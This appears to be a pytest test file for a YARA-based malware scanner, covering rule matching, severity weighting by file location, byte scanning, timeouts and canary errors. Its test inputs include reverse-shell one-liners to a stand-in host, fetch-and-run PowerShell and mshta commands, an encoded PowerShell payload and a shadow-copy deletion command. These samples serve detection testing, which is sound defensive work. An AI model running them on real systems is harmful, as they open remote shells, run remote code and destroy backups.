"""Byte rules find what is written anywhere, weigh it by where, and never go quiet: time-outs and silence are errors."""

import os
from base64 import b64encode
from pathlib import Path

import pytest
import yara_x

from scanners.engines import yara
from scanners.engines.yara import compile_rules, run_yara
from scanners.report import Finding, Severity
from scanners.rules import Rule, load_rules
from scanners.sources import Sources
from tests.scanners.sources_factory import make_source, make_sources

RULES = [rule for rule in load_rules().values() if rule.engine == "yara"]
SUFFIXES = {"python": "py", "javascript": "js", "text": "json", "script": "sh"}
PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + b"\0" * 60 + b"This program cannot be run in DOS mode"


def look(content: str | bytes, path: str = "main.py") -> tuple[Finding, ...]:
    reading = run_yara(make_sources({path: content}))
    assert reading.errors == ()
    assert reading.read == {path}
    return reading.findings


def ids(content: str, path: str = "main.py") -> set[str]:
    return {finding.rule_id for finding in look(content, path)}


def name_sample(rule: Rule, content: str) -> str:
    # A binary begins like one; its sample has no code in it.
    return "main.bin" if content.startswith("\x7f") else f"main.{SUFFIXES[rule.languages[0]]}"


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_rule_finds_its_matching_sample(rule: Rule) -> None:
    assert rule.id in ids(rule.match, name_sample(rule, rule.match))


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_rule_leaves_its_clean_sample_alone(rule: Rule) -> None:
    assert rule.id not in ids(rule.clean, name_sample(rule, rule.clean))


def test_every_byte_rule_explains_itself_and_every_explanation_has_one() -> None:
    named = {dict(rule.metadata)["id"] for rule in compile_rules()}

    assert named == {rule.id for rule in RULES}


@pytest.mark.parametrize("path", ["README.md", "LICENSE", "docs/attacks.rst", "CHANGELOG.txt"])
@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_documentation_may_name_any_attack(rule: Rule, path: str) -> None:
    assert all(finding.severity in (Severity.LOW, Severity.INFO) for finding in look(rule.match, path))


@pytest.mark.parametrize("path", ["tests/test_rules.py", "blocklist.txt", "data/patterns.json", "rules.yml"])
@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_tests_and_lists_never_conclude(rule: Rule, path: str) -> None:
    assert not any(finding.conclusive for finding in look(rule.match, path))


def test_comment_weighs_less_than_code() -> None:
    line = "# bash -i >& /dev/tcp/shell.example.invalid/4444 0>&1\n"

    assert [finding.severity for finding in look(line)] == [Severity.LOW]


@pytest.mark.parametrize(
    "line",
    [
        "import os; os.system('nc -e /bin/sh shell.example.invalid 4444')",
        "LINE = 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc shell.example.invalid 4444 >/tmp/f'",
        "LINE = 'socat TCP:shell.example.invalid:4444 EXEC:/bin/sh'",
        "LINE = 'exec 5<>/dev/tcp/shell.example.invalid/4444;cat <&5'",
        "LINE = 'php -r \"$s=fsockopen(1);\"'",
        "LINE = 'iwr https://updates.example.invalid/x.ps1 | iex'",
        "LINE = ['powershell', '-EncodedCommand', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=']",
        "LINE = 'vssadmin delete shadows /all /quiet'",
        "LINE = 'mshta https://updates.example.invalid/x.hta'",
        f"B = '{b64encode(PROGRAM).decode()}'",
        f"B = '{PROGRAM.hex()}'",
        "A = '/skoohbew/ipa/moc.drocsid//:sptth'",
    ],
)
def test_variant_is_suspicious_by_itself(line: str) -> None:
    assert any(finding.severity in (Severity.HIGH, Severity.CRITICAL) for finding in look(line + "\n"))


@pytest.mark.parametrize(
    "line",
    [
        "URL = 'http://192.168.0.1:8080/'",
        "DNS = 'https://8.8.8.8/resolve'",
        "pattern = re.compile(r'bash\\s+-i')",
        "import sys; frozen = getattr(sys, '_MEIPASS', None)",
        "import base64; png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk'",
        "browser = 'Google/Chrome/User Data'",
        "run(['powershell', '-Command', 'Get-Process', '-ea', 'SilentlyContinue'])",
        "VERSION = '1.2.3.4'",
        "WEBHOOK = os.environ['DISCORD_WEBHOOK']",
        "requests.post('https://discord.com/api/webhooks/' + settings['hook'])",
    ],
)
def test_honest_line_is_left_alone(line: str) -> None:
    assert look(line + "\n") == ()


def test_credential_is_never_repeated() -> None:
    rule = load_rules()["webhook-credential-data"]
    [finding] = [finding for finding in look(rule.match, "main.sh") if finding.rule_id == rule.id]

    assert "k3JxW9qLmZ7vT2sBnR8y" not in finding.snippet


def test_bytes_are_read_where_there_is_no_text(tmp_path: Path) -> None:
    data = b"\x80\x81\0" + load_rules()["stealer-wallets"].match.encode()
    reading = run_yara(make_sources({"main.pyc": data}, folder=tmp_path))

    assert "stealer-wallets" in {finding.rule_id for finding in reading.findings}


def test_layer_is_code_wherever_it_was_carried() -> None:
    rule = load_rules()["miner-connection"]
    layer = make_source("docs/notes.md", rule.match, base_line=7)
    [finding] = [f for f in run_yara(Sources(files=(layer,), declared=None)).findings if f.rule_id == rule.id]

    assert finding.conclusive
    assert finding.line == 7


def test_file_over_its_time_is_an_error(monkeypatch: pytest.MonkeyPatch) -> None:
    class Slow:
        def scan(self, data: bytes) -> object:
            if data == yara.CANARY:
                return yara_x.Scanner(compile_rules()).scan(data)
            raise yara_x.TimeoutError("slow")

    monkeypatch.setattr(yara, "make_scanner", Slow)
    reading = run_yara(make_sources({"main.py": "x = 1\n"}))

    assert reading.read == frozenset()
    assert len(reading.errors) == 1


def test_rules_that_find_nothing_are_an_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        yara, "compile_rules", lambda: yara_x.compile('rule nothing { strings: $a = "never to be seen" condition: $a }')
    )

    assert run_yara(make_sources({"main.py": "x = 1\n"})).errors == ("canary not found",)


def test_rules_compiled_before_a_fork_work_behind_it() -> None:
    compile_rules()
    child = os.fork()
    if child == 0:
        found = "miner-connection" in ids(load_rules()["miner-connection"].match)
        os._exit(0 if found else 1)

    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0
